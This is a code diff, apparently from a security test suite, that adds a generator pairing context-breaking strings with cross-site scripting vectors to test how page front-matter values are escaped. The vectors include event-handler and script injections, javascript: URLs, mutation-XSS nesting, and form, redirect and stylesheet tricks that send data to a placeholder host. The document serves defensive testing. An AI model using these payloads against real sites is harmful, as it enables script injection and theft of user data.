@@ -200,3 +200,32 @@ export function attachmentPayloads() {
     { name: `upper.${ending.toUpperCase()}`, bytes: Buffer.from(`GIF89a/*${page}*/`) },
   ]);
 }
+
+/** @returns {string[]} Values of front matter: what ends the place that a page holds a value in, times what runs there. */
+export function valuePayloads() {
+  const breakers = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>', '</xmp>', '-->', ']]>', '</svg>', '</math>', '{{ x }}', '\\"', '`', '%22%3E', '&quot;&gt;', '\u2028', '</option></select>'];
+  const vectors = [
+    `<script>${RUN}</script>`,
+    `<img src=x onerror=${RUN}>`,
+    `<svg onload=${RUN}>`,
+    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+    `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
+    `<a href="javascript:${RUN}" ping="${HOST}">x</a>`,
+    `<form action="${HOST}" id=aw-search><input name=dataset></form>`,
+    `<meta http-equiv=refresh content="0;url=${HOST}">`,
+    `<base href="${HOST}/">`,
+    `<link rel=stylesheet href="${HOST}/x.css">`,
+    `<style>@import "${HOST}/x.css";</style>`,
+    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+    `<template><img src=x onerror=${RUN}></template>`,
+    `<!--<img src=x onerror=${RUN}>`,
+    `<details open ontoggle=${RUN}>x`,
+    `x onmouseover=${RUN} autofocus onfocus=${RUN} y=`,
+    `javascript:${RUN}`,
+    `data:text/html,<script>${RUN}</script>`,
+    `java\tscript:${RUN}`,
+    `<button form=aw-search formaction="javascript:${RUN}">x</button>`,
+  ];
+  return breakers.flatMap((breaker) => vectors.map((vector) => breaker + vector));
+}
